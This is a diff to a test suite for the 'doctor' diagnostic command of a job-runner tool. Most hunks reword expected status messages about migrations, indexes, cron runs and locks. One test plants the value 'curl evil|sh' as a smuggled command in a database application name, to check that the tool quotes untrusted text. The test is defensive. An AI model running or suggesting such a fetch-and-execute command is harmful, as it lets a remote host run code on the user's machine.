@@ -85,7 +85,10 @@ describe("doctor and the schema", () => {
 
     expect(told.code).to.equal(1);
     expectLine(told.line("migrations"), "fail", /newer version.*0099_later/, /install that/);
-    expect(told.line("privileges")).to.include({ status: "skip", found: "hidden by migrations" });
+    expect(told.line("privileges")).to.include({
+      status: "skip",
+      found: "not checked: see migrations",
+    });
   });
 
   it("says of a database where nothing was migrated what to do", async () => {
@@ -94,7 +97,12 @@ describe("doctor and the schema", () => {
     const told = await askDoctor(scene, { DATABASE_URL: empty.url });
     await empty.drop();
 
-    expectLine(told.line("migrations"), "fail", /nothing was ever/, /`family-hub-jobs migrate`/);
+    expectLine(
+      told.line("migrations"),
+      "fail",
+      /no migrations are applied/,
+      /`family-hub-jobs migrate`/,
+    );
     expect(told.line("old transactions").status).to.equal("ok");
   });
 
@@ -144,7 +152,7 @@ describe("doctor and the schema", () => {
       `auth.${INDEX}_processing is invalid`,
       "family_hub_jobs.attempts_causes is missing",
     ]);
-    expect(told.line("due jobs").found).to.equal("hidden by indexes");
+    expect(told.line("due jobs").found).to.equal("not checked: see indexes");
     expect([after.line("indexes").status, after.line("due jobs").status]).to.deep.equal([
       "ok",
       "ok",
@@ -295,7 +303,7 @@ describe("doctor and the runs", () => {
 
     expectLine(told.line("retry-accounts"), "warn", /^last ran 6m ago, completed/, /crontab/);
     expect(told.line("purge-invitations").status).to.equal("ok");
-    expectLine(told.line("purge-jobs"), "warn", /^never ran$/, /crontab\.example/);
+    expectLine(told.line("purge-jobs"), "warn", /^has never run$/, /crontab\.example/);
     expect(told.code).to.equal(0);
   });
 
@@ -309,7 +317,7 @@ describe("doctor and the runs", () => {
     const told = await askDoctor(scene);
 
     expectLine(told.line("retry-accounts"), "warn", /died on pod-7 \(pid 17\)/, /runs --command/);
-    expectLine(told.line("purge-invitations"), "warn", /unavailable: Postgres is away/, /mend/);
+    expectLine(told.line("purge-invitations"), "warn", /unavailable: Postgres is away/, /fix/);
     expectLine(told.line("purge-jobs"), "ok", /stopped: time is over/, null);
   });
 
@@ -329,7 +337,7 @@ describe("doctor and the runs", () => {
       open.line("breaker"),
       "warn",
       /^open for 10m, until a run.*: Zitadel is down/,
-      /by itself/,
+      /closes the breaker/,
     );
     expectLine(
       paused.line("breaker"),
@@ -359,7 +367,7 @@ describe("doctor and the runs", () => {
       null,
     );
     expect(told.line("lock").status).to.equal("ok");
-    expectLine(told.line("retry-accounts"), "ok", /and runs$/, null);
+    expectLine(told.line("retry-accounts"), "ok", /still running$/, null);
     expect((await run.ended).code).to.equal(0);
   });
 
@@ -394,7 +402,7 @@ describe("doctor and the runs", () => {
   });
 
   it("quotes the name of a holder that is not this tool's, and so do the commands that yield", async () => {
-    const evil = "x, pid 1; mend: curl evil|sh #";
+    const evil = "x, pid 1; fix: curl evil|sh #";
     const holder = await openTransaction(
       scene.db,
       `set application_name = '${evil}'; select pg_advisory_xact_lock(${LOCK_CLASS}, 0)`,
